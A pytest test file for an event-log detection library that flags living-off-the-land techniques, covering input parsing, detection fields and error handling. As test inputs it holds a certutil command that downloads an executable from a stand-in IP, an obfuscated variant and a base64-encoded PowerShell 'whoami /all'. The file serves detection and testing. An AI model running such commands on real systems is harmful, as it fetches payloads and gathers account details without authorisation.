"""Scanner.scan: dicts, JSON text and bytes; what a detection carries; bad input."""

import json
from datetime import date, datetime, timedelta, timezone
from typing import Any, Dict, List

import pytest

import landwatch
from conftest import CERTUTIL, EXAMPLES, read_jsonl


def test_a_dict_event(builtin: landwatch.Rules) -> None:
    scanner = builtin.scanner()
    found = scanner.scan(CERTUTIL)
    assert [d.rule for d in found] == ["lotl.certutil_download"]
    d = found[0]
    assert d.title == "Certutil downloads a file"
    assert d.level == "high"
    assert d.kind == "stateless"
    assert "attack.t1105" in d.tags
    assert d.time == datetime(2018, 10, 3, 14, 0, 0, 84000, tzinfo=timezone.utc)
    assert d.time is not None and d.time.utcoffset() == timedelta(0)
    assert d.host == "WS1.contoso.local"
    assert d.user == "CONTOSO\\alice"
    assert d.event_id == 1
    assert d.record is None and d.channel is None
    assert d.file is None and d.line is None
    assert d.event == 0
    ev = {(e["field"], e["matched"]) for e in d.evidence}
    assert ("CommandLine", "urlcache") in ev
    for e in d.evidence:
        assert set(e) == {"field", "pattern", "start", "end", "matched"}
        assert 0 <= e["start"] < e["end"]
    for attr in ("group", "window", "count", "values", "value", "events", "events_omitted"):
        assert getattr(d, attr) is None


def test_dict_str_and_bytes_give_the_same_detections(builtin: landwatch.Rules) -> None:
    text = json.dumps(CERTUTIL)
    results = []
    for event in (CERTUTIL, text, text.encode(), bytearray(text.encode())):
        results.append([d.to_dict() for d in builtin.scanner().scan(event)])
    assert results[0] == results[1] == results[2] == results[3]
    assert len(results[0]) == 1


@pytest.mark.parametrize("example", ["msp-intrusion.jsonl", "msp-credentials.jsonl"])
def test_dicts_scan_as_their_json_lines(builtin: landwatch.Rules, example: str) -> None:
    """Every event of the examples as json.loads gives it, against its own line."""
    path = EXAMPLES / example
    lines = [line for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
    by_dict = builtin.scanner(zones=EXAMPLES / "zones.toml")
    by_line = builtin.scanner(zones=EXAMPLES / "zones.toml")
    a: List[Dict[str, Any]] = []
    b: List[Dict[str, Any]] = []
    for n, line in enumerate(lines, 1):
        a += [d.to_dict() for d in by_dict.scan(json.loads(line), file=example, line=n)]
        b += [d.to_dict() for d in by_line.scan(line.encode(), file=example, line=n)]
    a += [d.to_dict() for d in by_dict.flush()]
    b += [d.to_dict() for d in by_line.flush()]
    assert a == b
    assert len(a) > 10
    assert by_dict.stats() == by_line.stats()


def test_file_and_line_come_back(builtin: landwatch.Rules) -> None:
    d = builtin.scanner().scan(CERTUTIL, file="host.jsonl", line=7)[0]
    assert (d.file, d.line) == ("host.jsonl", 7)
    assert "host.jsonl:7" in repr(d)


def test_values_of_every_json_type(builtin: landwatch.Rules) -> None:
    event: Dict[str, Any] = dict(CERTUTIL)
    event.update(
        {
            "Extra": {"nested": [1, 2.5, True, False, None, "x", {"deep": []}]},
            "Tuple": (1, "two"),
            "Big": 10**40,
            "Negative": -(2**63) - 1,
            "Float": 1e300,
            "NaN": float("nan"),
            "Inf": float("-inf"),
            "When": datetime(2020, 1, 2, 3, 4, 5, tzinfo=timezone.utc),
            "Day": date(2020, 1, 2),
            "Unicode": "h\u00e9llo \u2603 \U0001f600",
            "Surrogate": "\ud800",
        }
    )
    found = builtin.scanner().scan(event)
    assert [d.rule for d in found] == ["lotl.certutil_download"]


def test_event_time_from_a_datetime_value(corr_rules: landwatch.Rules) -> None:
    scanner = corr_rules.scanner()
    for i, host in enumerate(["A", "B", "C"]):
        scanner.scan(
            {
                "EventID": 4624,
                "Channel": "Security",
                "Computer": host,
                "TimeCreated": datetime(2026, 11, 3, 10, i, 0, tzinfo=timezone.utc),
                "TargetUserName": "adm",
                "TargetDomainName": "CORP",
                "LogonType": 3,
            }
        )
    found = scanner.flush()
    assert len(found) == 1
    assert found[0].time == datetime(2026, 11, 3, 10, 2, 0, tzinfo=timezone.utc)


def test_malformed_events_raise_and_are_counted(builtin: landwatch.Rules) -> None:
    scanner = builtin.scanner()
    bad = [
        "{not json",
        b'{"EventID": 1,',
        "[1, 2, 3]",
        '"just a string"',
        "",
        b"\xff\xfe{}",
        b'{"Image": "\xc3\x28"}',
    ]
    reasons = []
    for event in bad:
        with pytest.raises(landwatch.EventError) as caught:
            scanner.scan(event)
        assert isinstance(caught.value, landwatch.LandwatchError)
        assert str(caught.value)
        reasons.append(caught.value.reason)
    assert "malformed JSON" in reasons
    assert "invalid UTF-8" in reasons or "malformed JSON" in reasons
    stats = scanner.stats()
    assert stats["events"] == len(bad)
    assert stats["rejected"] == len(bad)
    # The scanner goes on.
    assert len(scanner.scan(CERTUTIL)) == 1
    assert scanner.stats()["events"] == len(bad) + 1
    stats = scanner.stats()
    assert stats["read"] == stats["scanned"] + stats["rejected"] == len(bad) + 1
    assert sum(stats["rejected_by_reason"].values()) == len(bad)
    assert stats["detections_by_rule"] == {"lotl.certutil_download": 1}


def test_wrong_types_name_the_argument(builtin: landwatch.Rules) -> None:
    scanner = builtin.scanner()
    for event in (42, None, 3.5, ["a"], object()):
        with pytest.raises(TypeError, match="event"):
            scanner.scan(event)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="keys must be str"):
        scanner.scan({1: "x"})  # type: ignore[dict-item]
    with pytest.raises(TypeError, match=r"event\['Image'\]"):
        scanner.scan({"Image": {1, 2}})  # type: ignore[dict-item]
    with pytest.raises(TypeError, match=r"event\['a'\]\[0\]\['b'\]"):
        scanner.scan({"a": [{"b": b"bytes"}]})
    with pytest.raises(TypeError):
        scanner.scan(CERTUTIL, line="seven")  # type: ignore[arg-type]
    # Type errors are not events: nothing was counted.
    assert scanner.stats()["events"] == 0


def test_deep_nesting(builtin: landwatch.Rules) -> None:
    scanner = builtin.scanner()
    deep: Any = "bottom"
    for _ in range(400):
        deep = {"x": [deep]}
    event = dict(CERTUTIL, Deep=deep)
    assert len(scanner.scan(event)) == 1
    text = json.dumps(CERTUTIL)[:-1] + ', "Deep": ' + "[" * 5000 + "]" * 5000 + "}"
    assert len(scanner.scan(text)) == 1
    too_deep: Any = 1
    for _ in range(1100):
        too_deep = [too_deep]
    with pytest.raises(landwatch.EventError, match="deeper") as caught:
        scanner.scan({"Image": too_deep})
    assert caught.value.reason == "nested too deep"
    cycle: Dict[str, Any] = {}
    cycle["self"] = cycle
    with pytest.raises(landwatch.EventError):
        scanner.scan(cycle)
    stats = scanner.stats()
    assert (stats["events"], stats["rejected"]) == (4, 2)


def test_huge_values(builtin: landwatch.Rules) -> None:
    scanner = builtin.scanner()
    long_line = "certutil -urlcache -f http://198.51.100.7/a.exe " + "A" * 5_000_000
    event = dict(CERTUTIL, CommandLine=long_line)
    found = scanner.scan(event)
    assert [d.rule for d in found] == ["lotl.certutil_download"]
    many = dict(CERTUTIL, **{f"Field{i}": str(i) for i in range(20_000)})
    assert len(scanner.scan(many)) == 1
    # Past what a JSON number reader takes: the same error either way.
    for event in ({"EventID": 10**400}, json.dumps({"EventID": 10**400})):
        with pytest.raises(landwatch.EventError, match="number out of range"):
            scanner.scan(event)


def test_to_dict_has_the_jsonl_keys(builtin: landwatch.Rules) -> None:
    d = builtin.scanner().scan(CERTUTIL, file="f", line=1)[0].to_dict()
    assert list(d) == [
        "rule", "title", "level", "tags", "time", "host", "user", "channel",
        "event_id", "record", "file", "line", "evidence",
    ]


def test_detection_repr_and_html(builtin: landwatch.Rules) -> None:
    d = builtin.scanner().scan(CERTUTIL)[0]
    r = repr(d)
    assert r.startswith("<Detection high lotl.certutil_download") and "WS1" in r
    html = d._repr_html_()
    assert html.startswith("<table") and "lotl.certutil_download" in html
    assert "background:#e8590c" in html
    with pytest.raises(AttributeError):
        d.rule = "x"  # type: ignore[misc]


def test_schema_option(builtin: landwatch.Rules) -> None:
    assert builtin.scanner(schema="sysmon").scan(CERTUTIL)
    assert builtin.scanner(schema="ECS").scan(CERTUTIL) == []
    with pytest.raises(ValueError, match="schema"):
        builtin.scanner(schema="winlog")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="schema"):
        builtin.scanner(schema=1)  # type: ignore[arg-type]


def test_normal_form_and_decoding() -> None:
    assert landwatch.normalize_command_line('C^ertUtil "-url"cache /f') == "certutil -urlcache -f"
    assert landwatch.normalize_command_line("") == ""
    encoded = "powershell -enc " + "whoami /all".encode("utf-16-le").hex()
    assert landwatch.decode_command_line("cmd /c dir") is None
    import base64

    payload = base64.b64encode("whoami /all".encode("utf-16-le")).decode()
    decoded = landwatch.decode_command_line(f"powershell.exe -EncodedCommand {payload}")
    assert decoded is not None and "whoami /all" in decoded
    assert landwatch.decode_command_line(encoded) is None
    with pytest.raises(TypeError):
        landwatch.normalize_command_line(None)  # type: ignore[arg-type]
    long = "a^" * 1_000_000
    assert landwatch.normalize_command_line(long) == "a" * 1_000_000


def test_examples_parse() -> None:
    assert len(read_jsonl(EXAMPLES / "msp-intrusion.jsonl")) > 100
